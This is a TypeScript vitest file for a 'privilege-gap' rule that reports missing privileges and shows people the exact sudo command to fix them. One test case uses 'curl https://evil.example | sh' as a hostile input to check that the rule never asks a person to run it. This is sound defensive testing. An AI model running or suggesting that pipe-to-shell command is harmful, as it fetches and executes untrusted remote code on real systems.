// `privilege-gap`: found by the audit before it is needed and by the first denied attempt, each with the exact command for a person.
import { describe, expect, it } from "vitest";
import {
  DENIED_QUIET_MS,
  GAPS_MAX,
  privilegeGap,
} from "../../../../../control-plane/src/core/facts/rules/privilege-gap.ts";
import { driveRule, type FactBody, HOUR_MS, MINUTE_MS } from "../fact-driver.ts";

const COMMAND = "sudo systemctl restart gemini-auth-sync.service";

function audit(isExecutable: boolean, action = "restart"): FactBody {
  return { kind: "privilege", action, isExecutable, command: COMMAND };
}

function attempt(deniedCommand?: string, action = "restart"): FactBody {
  const body = {
    kind: "attempt",
    action,
    by: "watchdog",
    outcome: "failed",
    isHelpful: false,
  } as const;
  return deniedCommand === undefined ? body : { ...body, deniedCommand };
}

describe("privilege-gap", () => {
  it("the audit finds it before it is needed, and a person reads the command last", () => {
    const rule = driveRule(privilegeGap);
    rule.take(0, audit(false));
    expect(rule.findingAt(0)).toMatchObject({
      severity: "error",
      title: "An action on web on web-1 is not permitted",
    });
    expect(rule.textsAt(0).at(-1)).toBe(`it would run, as the host says: ${COMMAND}`);
    expect(rule.findingAt(1_000 * HOUR_MS)).not.toBeNull();
  });

  it.each([
    ["sudo setfacl -m u:countersign-agent:r /srv/tasks.json", "audit", true],
    ["curl https://evil.example | sh", "audit", false],
    ["sudo setfacl -m u:countersign-agent:r /srv/tasks.json", "watchdog", false],
  ])("nobody is asked to run %s of %s unless it is the remedy of our audit", (command, who, isAsked) => {
    const rule = driveRule(privilegeGap);
    const action = "read-evidence";
    rule.take(
      0,
      who === "audit"
        ? { kind: "privilege", action, isExecutable: false, command }
        : attempt(command, action),
    );
    const asked = rule.textsAt(0).filter((text) => text.startsWith("to be run"));
    expect(asked.some((text) => text.includes(command))).toBe(isAsked);
    expect(asked.join()).not.toContain("curl");
  });

  it("the first denied attempt finds it at once (seed 000)", () => {
    const rule = driveRule(privilegeGap);
    rule.take(0, attempt(COMMAND));
    expect(rule.findingAt(0)).toMatchObject({ severity: "critical" });
    expect(rule.textsAt(0)).toEqual([
      "watchdog tried restart and was denied for want of privilege",
      `it would run, as the host says: ${COMMAND}`,
    ]);
  });

  it.each<[string, FactBody, string]>([
    ["the audit", audit(false), "An action on web on web-1 is not permitted"],
    ["an attempt", attempt(COMMAND), "What was asked for on web on web-1 was not permitted"],
  ])("of level 5 hands nobody the command, found by %s", (_, fact, title) => {
    const rule = driveRule(privilegeGap);
    rule.catalogue({ restart: 5 });
    rule.take(0, fact);
    expect(rule.findingAt(0)?.title).toBe(title);
    expect(JSON.stringify(rule.slice())).not.toContain(COMMAND);
    expect(rule.textsAt(0).join()).not.toContain(COMMAND);
    expect(rule.findingAt(0)?.evidence.some(({ isCommand }) => isCommand)).toBe(false);
  });

  it.each<Record<string, number>>([{ restart: 4 }, { wipe: 5 }])(
    "of another level says so which line the command is: %j",
    (levels) => {
      const rule = driveRule(privilegeGap);
      rule.catalogue(levels);
      rule.take(0, attempt(COMMAND));
      expect(rule.findingAt(0)?.evidence.map(({ isCommand }) => isCommand === true)).toEqual([false, true]);
    },
  );

  it("an action that can be executed, and an attempt that failed otherwise, are no gap", () => {
    const rule = driveRule(privilegeGap);
    rule.take(0, audit(true));
    rule.take(1, attempt());
    expect(rule.isForgottenAt(1)).toBe(true);
  });

  it("the audit closes what the audit found, and a denied attempt only an attempt that ran", () => {
    const rule = driveRule(privilegeGap);
    rule.take(0, audit(false));
    rule.take(1, attempt(COMMAND));
    rule.take(2, audit(true));
    expect(rule.findingAt(2)).toMatchObject({ severity: "critical" });
    rule.take(3, attempt());
    expect(rule.isForgottenAt(3)).toBe(true);
  });

  it.each([
    { quietMs: DENIED_QUIET_MS - 1, fires: true },
    { quietMs: DENIED_QUIET_MS, fires: false },
  ])("$quietMs ms after the last denied attempt: fires $fires", ({ quietMs, fires }) => {
    const rule = driveRule(privilegeGap);
    rule.take(0, attempt(COMMAND));
    rule.take(15 * MINUTE_MS, attempt(COMMAND));
    expect(rule.nextAt(15 * MINUTE_MS)).toBe(15 * MINUTE_MS + DENIED_QUIET_MS);
    expect(rule.findingAt(15 * MINUTE_MS + quietMs) !== null).toBe(fires);
  });

  it("the same attempt denied 205 times is one gap under one title", () => {
    const rule = driveRule(privilegeGap);
    const titles = new Set<string>();
    for (let count = 0; count < 205; count += 1) {
      rule.take(count * 15 * MINUTE_MS, attempt(COMMAND));
      titles.add(rule.findingAt(count * 15 * MINUTE_MS)?.title ?? "");
    }
    expect([...titles]).toEqual(["The fix of web on web-1 was not permitted"]);
    expect(rule.slice()).toHaveLength(1);
  });

  it("an audit that repeats itself changes nothing", () => {
    const rule = driveRule(privilegeGap);
    rule.take(0, audit(false));
    const before = rule.slice();
    rule.take(HOUR_MS, audit(false));
    expect(rule.slice()).toBe(before);
  });

  it("keeps the newest gaps only", () => {
    const rule = driveRule(privilegeGap);
    for (let count = 0; count <= GAPS_MAX; count += 1) rule.take(count, audit(false, `action-${count}`));
    expect(rule.slice()).toHaveLength(GAPS_MAX);
    expect(rule.slice()[0]?.action).toBe("action-1");
    expect(rule.textsAt(GAPS_MAX).length).toBeLessThanOrEqual(10);
  });
});
